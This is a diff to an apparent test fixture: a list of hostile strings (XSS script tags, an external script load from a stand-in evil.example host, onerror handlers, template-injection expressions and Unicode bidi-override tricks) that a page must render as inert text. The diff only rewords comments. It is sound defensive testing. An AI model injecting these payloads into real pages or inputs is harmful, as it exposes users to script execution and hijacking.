@@ -1,4 +1,4 @@
-/** Texts that a page or catalog may hold to break out of being text. Each must show as text, and do nothing. */
+/** Texts with which a page or catalog may try to become more than text. Each must show as text and do nothing. */
 export const HOSTILE: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
@@ -61,7 +61,7 @@ export const HOSTILE: readonly string[] = [
   '<p><p><p></p></svg><img/src=x/onerror=alert(1)>',
   '"><script>alert(1)</script>',
   "'-alert(1)-'",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a template engine would run
   '${alert(1)}{{constructor.constructor("alert(1)")()}}',
   '\u202egnp.tpircs\u202c',
   '\u2066\u202e\u2067evil\u2069',
